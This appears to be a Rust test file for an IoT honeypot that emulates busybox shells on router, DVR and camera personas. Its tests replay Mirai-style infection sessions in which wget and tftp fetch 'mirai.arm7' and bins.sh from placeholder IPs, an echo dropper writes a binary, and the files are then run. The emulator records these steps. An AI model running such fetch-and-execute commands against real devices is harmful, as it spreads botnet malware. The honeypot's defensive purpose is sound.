//! Applet and shell tests against a real built-in persona.

use crate::{Effect, Limits, Outcome, Shell, System, Tool};
use iotpot_core::deployment::Deployment;
use iotpot_core::Profile;

const NOW: i64 = 1_700_000_000;

fn shell(profile: &str) -> Shell {
    let p = Profile::load(profile).unwrap();
    let persona = p.instantiate(&Deployment::from_seed([7; 32]));
    Shell::new(System::new(persona, NOW), "root", Limits::default())
}

fn run(sh: &mut Shell, line: &str) -> Outcome {
    sh.run_line(line.as_bytes(), NOW)
}

fn out(sh: &mut Shell, line: &str) -> String {
    String::from_utf8_lossy(&run(sh, line).output).into_owned()
}

#[test]
fn mirai_scanner_and_loader_flow() {
    let mut sh = shell("dvr-xiongmai");
    for cmd in ["enable", "system", "shell"] {
        let o = run(&mut sh, cmd);
        assert_eq!(
            String::from_utf8_lossy(&o.output),
            format!("-sh: {cmd}: not found\n")
        );
        assert!(!o.known());
    }
    assert_eq!(out(&mut sh, "sh"), "");
    assert_eq!(
        out(&mut sh, "/bin/busybox ECCHI"),
        "ECCHI: applet not found\n"
    );
    let ps = out(&mut sh, "/bin/busybox ps");
    assert!(ps.starts_with("  PID USER"), "{ps}");
    assert!(ps.contains("/var/Sofia"));
    let mounts = out(&mut sh, "/bin/busybox cat /proc/mounts");
    assert!(mounts.contains("/mnt/mtd jffs2 rw"));
    // The .nippon write-check, in each writable dir.
    let o = out(&mut sh, "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69' > /var/.nippon; /bin/busybox cat /var/.nippon; /bin/busybox rm /var/.nippon");
    assert_eq!(o, "kami\n");
    assert_eq!(out(&mut sh, "cd /var/"), "");
    assert_eq!(sh.cwd(), "/var");
    assert_eq!(out(&mut sh, "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI"), "ECCHI: applet not found\n");
    // The ELF header of /bin/echo tells the loader the CPU.
    let o = run(&mut sh, "/bin/busybox cat /bin/echo");
    assert_eq!(&o.output[..4], b"\x7fELF");
    assert_eq!(o.output[18], 40, "e_machine ARM");
    let o = run(&mut sh, "dd bs=52 count=1 if=/bin/echo");
    assert_eq!(&o.output[..4], b"\x7fELF");
    let text = String::from_utf8_lossy(&o.output[52..]).into_owned();
    assert!(
        text.starts_with("1+0 records in\n1+0 records out\n52 bytes (52B) copied"),
        "{text}"
    );
    // Delivery 1: wget.
    let o = run(&mut sh, "/bin/busybox wget http://198.51.100.7:80/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper");
    assert_eq!(
        o.effects[0],
        Effect::Download {
            url: "http://198.51.100.7:80/bins/mirai.arm7".into(),
            tool: Tool::Wget,
            dest: "-".into()
        }
    );
    // Delivery 2: tftp.
    let o = run(
        &mut sh,
        "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 198.51.100.7",
    );
    assert!(
        matches!(&o.effects[0], Effect::Download { url, tool: Tool::Tftp, dest } if url == "tftp://198.51.100.7/mirai.arm7" && dest == "dvrHelper")
    );
    // Delivery 3: echo, byte by byte, then run it.
    let elf: Vec<u8> = (0..300u32).map(|i| (i * 37 % 256) as u8).collect();
    let mut payload = b"\x7fELF".to_vec();
    payload.extend_from_slice(&elf);
    for chunk in payload.chunks(128) {
        let hex: String = chunk.iter().map(|b| format!("\\x{b:02x}")).collect();
        let o = run(&mut sh, &format!("/bin/busybox echo -ne '{hex}' >> upnp && /bin/busybox echo -ne '\\x45\\x43\\x43\\x48\\x49'"));
        assert_eq!(o.output, b"ECCHI");
    }
    let o = run(
        &mut sh,
        "/bin/busybox chmod 777 upnp; ./upnp; ./dvrHelper telnet.arm7; /bin/busybox IHCCE",
    );
    let written: Vec<_> = o
        .effects
        .iter()
        .filter_map(|e| match e {
            Effect::FileWritten { path, bytes } => Some((path.clone(), bytes.clone())),
            _ => None,
        })
        .collect();
    assert_eq!(written.len(), 1, "{:?}", o.effects);
    assert_eq!(written[0].0, "/var/upnp");
    assert_eq!(**written[0].1, payload, "the dropped file is byte-exact");
    assert!(o.effects.iter().any(|e| matches!(e, Effect::Executed { path, args, .. } if path == "/var/dvrHelper" && args == "telnet.arm7")));
    assert!(String::from_utf8_lossy(&o.output).ends_with("IHCCE: applet not found\n"));
}

#[test]
fn while_read_and_pipes() {
    let mut sh = shell("router-tplink");
    run(&mut sh, "cd /tmp; printf 'a b\\nc\\n' > .s");
    assert_eq!(
        out(&mut sh, "while read i; do echo $i; done < .s"),
        "a b\nc\n"
    );
    assert_eq!(out(&mut sh, "cat .s | grep c | wc -l"), "1\n");
    assert_eq!(out(&mut sh, "echo `echo hi` $(echo there)"), "hi there\n");
    assert_eq!(out(&mut sh, "X=\"1  2\"; echo $X \"$X\""), "1 2 1  2\n");
    assert_eq!(
        out(
            &mut sh,
            "false || echo yes && echo also; true && false || echo no"
        ),
        "yes\nalso\nno\n"
    );
    assert_eq!(
        out(&mut sh, "for d in /tmp /var; do echo $d; done"),
        "/tmp\n/var\n"
    );
    assert_eq!(
        out(
            &mut sh,
            "if [ -f /tmp/.s ]; then echo file; else echo none; fi"
        ),
        "file\n"
    );
    assert_eq!(out(&mut sh, "cat /nope 2>/dev/null; echo $?"), "1\n");
    assert_eq!(out(&mut sh, "cat /nope 2>&1 | wc -c"), "51\n");
    assert_eq!(out(&mut sh, "uname -m"), "mips\n");
}

#[test]
fn busybox_messages() {
    let mut sh = shell("router-tplink");
    assert_eq!(
        out(&mut sh, "cat /x"),
        "cat: can't open '/x': No such file or directory\n"
    );
    assert_eq!(
        out(&mut sh, "rm /x"),
        "rm: can't remove '/x': No such file or directory\n"
    );
    assert_eq!(out(&mut sh, "rm -f /x"), "");
    assert_eq!(
        out(&mut sh, "cp /x /y"),
        "cp: can't stat '/x': No such file or directory\n"
    );
    assert_eq!(
        out(&mut sh, "chmod 777 /x"),
        "chmod: /x: No such file or directory\n"
    );
    assert_eq!(
        out(&mut sh, "cd /x"),
        "-sh: cd: can't cd to /x: No such file or directory\n"
    );
    assert_eq!(out(&mut sh, "./x"), "-sh: ./x: not found\n");
    assert_eq!(
        out(&mut sh, "mkdir /tmp"),
        "mkdir: can't create directory '/tmp': File exists\n"
    );
    assert_eq!(
        out(&mut sh, "echo 'unterminated"),
        "-sh: syntax error: unexpected end of file\n"
    );
    assert_eq!(
        out(&mut sh, "kill -9 99999"),
        "-sh: kill: can't kill pid 99999: No such process\n"
    );
    assert!(out(&mut sh, "busybox").contains("Currently defined functions:"));
    assert!(out(&mut sh, "ls -l /bin").contains("sh -> busybox"));
    assert_eq!(out(&mut sh, "exit").len(), 0);
}

#[test]
fn scripts_run_inside_the_emulation() {
    let mut sh = shell("dvr-hisilicon");
    run(&mut sh, "cd /tmp; echo 'cd /tmp; wget http://203.0.113.5/a.arm; wget http://203.0.113.5/a.mips; tftp -g -r a.x86 203.0.113.5' > bins.sh");
    let o = run(&mut sh, "sh bins.sh");
    let urls: Vec<_> = o
        .effects
        .iter()
        .filter_map(|e| match e {
            Effect::Download { url, .. } => Some(url.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(
        urls,
        [
            "http://203.0.113.5/a.arm",
            "http://203.0.113.5/a.mips",
            "tftp://203.0.113.5/a.x86"
        ]
    );
    // Download tools the device lacks are still recorded.
    let o = run(&mut sh, "curl -O http://203.0.113.5/c.sh");
    assert!(o.effects.iter().any(|e| matches!(
        e,
        Effect::Download {
            tool: Tool::Curl,
            ..
        }
    )));
    assert_eq!(String::from_utf8_lossy(&o.output), "-sh: curl: not found\n");
}

#[test]
fn limits_hold() {
    let mut sh = shell("router-tplink");
    let o = run(&mut sh, "while true; do echo x; done");
    assert!(o.effects.iter().any(|e| matches!(
        e,
        Effect::Limit {
            limit: "steps_per_line",
            ..
        }
    )));
    let o = run(&mut sh, "while true; do :; done");
    assert!(o.effects.iter().any(|e| matches!(e, Effect::Limit { .. })));
    let mut small = {
        let p = Profile::load("router-tplink").unwrap();
        let persona = p.instantiate(&Deployment::from_seed([7; 32]));
        Shell::new(
            System::new(persona, NOW),
            "root",
            Limits {
                vfs_bytes: 4096,
                ..Limits::default()
            },
        )
    };
    let o = run(
        &mut small,
        "cd /tmp; i=0; while true; do echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa >> f; done",
    );
    assert!(String::from_utf8_lossy(&o.output).contains("No space left on device"));
    assert!(small.vfs_used() <= 4096);
}

#[test]
fn files_left_behind_are_reported_at_the_end() {
    let mut sh = shell("camera-hikvision");
    run(
        &mut sh,
        "echo -ne '#!/bin/sh\\nwget x' > /tmp/a.sh; echo hi > /tmp/b",
    );
    let fin = sh.finish();
    assert_eq!(fin.len(), 2);
    assert!(sh.finish().is_empty(), "reported once");
}

#[test]
fn variables_are_bounded() {
    let mut sh = shell("router-tplink");
    let doubling = "X=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa".to_string() + &"; X=$X$X".repeat(24);
    run(&mut sh, &doubling);
    let len = out(&mut sh, "echo $X | wc -c");
    assert!(
        len.trim().parse::<usize>().unwrap() <= crate::exec::MAX_VAR + 1,
        "{len}"
    );
    for i in 0..10 {
        run(&mut sh, &format!("Y{i}=$X"));
    }
    let total: usize = sh.vars.values().map(|v| v.len()).sum();
    assert!(total <= crate::exec::MAX_VARS_BYTES);
}

#[test]
fn downloads_wait_for_the_fetch_and_replay() {
    use crate::{FetchFailure, FetchRequest, FetchResult};
    use std::sync::Arc;
    let mut sh = shell("dvr-xiongmai");
    sh.enable_fetching();
    let script =
        b"#!/bin/sh\ncd /tmp; wget http://203.0.113.5/a.arm7; chmod +x a.arm7; ./a.arm7 go\n"
            .to_vec();
    let line = "cd /var; echo before > note; wget http://203.0.113.5/bins.sh; sh bins.sh";
    // 1st run: waits for bins.sh; nothing of the line happened.
    let o = run(&mut sh, line);
    assert_eq!(
        o.pending,
        Some(FetchRequest {
            url: "http://203.0.113.5/bins.sh".into(),
            tool: Tool::Wget,
            dest: "bins.sh".into()
        })
    );
    assert!(o.output.is_empty() && o.effects.is_empty());
    assert_eq!(sh.cwd(), "/root", "the state is rolled back");
    sh.provide(
        "http://203.0.113.5/bins.sh",
        FetchResult::Fetched {
            bytes: Arc::new(script),
            remote: "203.0.113.5:80".into(),
        },
    );
    // 2nd run: the script runs and waits for the binary it fetches.
    let o = run(&mut sh, line);
    assert_eq!(
        o.pending.as_ref().map(|p| p.url.as_str()),
        Some("http://203.0.113.5/a.arm7")
    );
    let elf: Vec<u8> = b"\x7fELF\x01\x01\x01binary".to_vec();
    sh.provide(
        "http://203.0.113.5/a.arm7",
        FetchResult::Fetched {
            bytes: Arc::new(elf.clone()),
            remote: "203.0.113.5:80".into(),
        },
    );
    let o = run(&mut sh, line);
    assert!(o.pending.is_none());
    let text = String::from_utf8_lossy(&o.output).into_owned();
    assert!(
        text.contains("Connecting to 203.0.113.5 (203.0.113.5:80)"),
        "{text}"
    );
    assert!(
        text.contains("bins.sh              100% |*******************************|"),
        "{text}"
    );
    let downloads = o
        .effects
        .iter()
        .filter(|e| matches!(e, Effect::Download { .. }))
        .count();
    assert_eq!(downloads, 2);
    assert!(o.effects.iter().any(|e| matches!(e, Effect::Executed { path, bytes: Some(b), .. } if path == "/tmp/a.arm7" && **b == elf)));
    assert_eq!(
        out(&mut sh, "cat /var/note"),
        "before\n",
        "the replayed line ran exactly once"
    );
    // A failed fetch prints the tool's own error.
    let o = run(&mut sh, "wget http://203.0.113.5/missing");
    sh.provide(
        &o.pending.unwrap().url,
        FetchResult::Failed(FetchFailure::HttpStatus(404, "Not Found".into())),
    );
    assert!(out(&mut sh, "wget http://203.0.113.5/missing")
        .contains("wget: server returned error: HTTP/1.1 404 Not Found"));
    let o = run(&mut sh, "tftp -g -r x 203.0.113.5");
    sh.provide(
        &o.pending.unwrap().url,
        FetchResult::Failed(FetchFailure::Server("File not found".into())),
    );
    assert_eq!(
        out(&mut sh, "tftp -g -r x 203.0.113.5"),
        "tftp: server error: (1) File not found\n"
    );
}

#[test]
fn script_downloads_are_found_without_running_anything() {
    let p = Profile::load("router-tplink").unwrap();
    let sys = System::new(p.instantiate(&Deployment::from_seed([7; 32])), NOW);
    let script = b"#!/bin/sh\nSRV=203.0.113.9\nfor a in arm mips x86; do\n  cd /tmp; wget http://$SRV/bins/t.$a -O t; chmod 777 t; ./t\ndone\ntftp -g -r t.sh4 $SRV\nwget http://$SRV/bins/t.arm -O t2\n";
    let urls = crate::script_downloads(sys, script, NOW);
    let got: Vec<&str> = urls.iter().map(|(u, _)| u.as_str()).collect();
    assert_eq!(
        got,
        [
            "http://203.0.113.9/bins/t.arm",
            "http://203.0.113.9/bins/t.mips",
            "http://203.0.113.9/bins/t.x86",
            "tftp://203.0.113.9/t.sh4"
        ]
    );
}

#[test]
fn applets_not_emulated_are_asked_of_the_backend() {
    use crate::{Answer, Question};
    let mut sh = shell("dvr-xiongmai");
    let never: std::collections::HashSet<String> = ["dmesg".to_string()].into();
    sh.enable_backend(std::sync::Arc::new(never));
    let line = "cd /tmp; echo hi | md5sum; echo done";
    let o = run(&mut sh, line);
    let q = o.ask.clone().expect("md5sum is asked");
    assert_eq!(q.command, "md5sum");
    assert_eq!(q.stdin, b"hi\n");
    assert!(o.output.is_empty());
    assert_eq!(sh.cwd(), "/root", "nothing of the line happened yet");
    sh.provide_answer(
        q,
        Answer {
            output: b"764efa883dda1e11db47671c4a3bbd9e  -\n".to_vec(),
            status: 0,
        },
    );
    let o = run(&mut sh, line);
    assert!(o.ask.is_none());
    assert_eq!(
        o.output,
        b"764efa883dda1e11db47671c4a3bbd9e  -\ndone\n".to_vec()
    );
    assert_eq!(sh.cwd(), "/tmp");
    // Never asked: the emulation's own (silent) answer.
    let o = run(&mut sh, "dmesg");
    assert!(o.ask.is_none());
    let _ = Question::default;
}
